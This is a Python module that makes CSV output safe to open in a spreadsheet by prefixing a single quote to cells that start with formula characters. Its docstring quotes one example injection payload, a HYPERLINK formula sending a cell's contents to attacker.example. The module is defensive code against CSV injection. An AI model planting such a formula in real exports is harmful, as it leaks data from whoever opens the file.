"""CSV files the commands write, made safe to open in a spreadsheet.

Spreadsheet tools run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a tab or a carriage return: a partner-supplied student key such as
``=HYPERLINK("https://attacker.example/?"&A1, "open")`` would run on the operator's machine
(OWASP, "CSV Injection"). Such a cell is written with a leading single quote, which the tools
read as "text" and do not display.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet runs as a formula; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SpreadsheetSafeWriter:
    """A ``csv.writer`` whose text cells never start a formula (see :func:`spreadsheet_safe`)."""

    def __init__(self, file: TextIO, **options: Any):
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
